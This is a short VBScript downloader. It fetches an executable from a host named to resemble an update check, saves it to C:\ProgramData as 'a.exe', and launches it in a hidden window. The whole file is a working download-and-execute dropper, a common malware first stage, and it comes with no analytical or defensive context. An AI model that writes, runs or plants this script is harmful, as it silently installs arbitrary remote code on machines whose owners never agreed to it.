Dim http, stream, shell
Set http = CreateObject("MSXML2.ServerXMLHTTP")
http.Open "GET", "http://update-check.example.info/a.exe", False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.ResponseBody
stream.SaveToFile "C:\ProgramData\a.exe", 2
Set shell = CreateObject("WScript.Shell")
shell.Run "C:\ProgramData\a.exe", 0, False
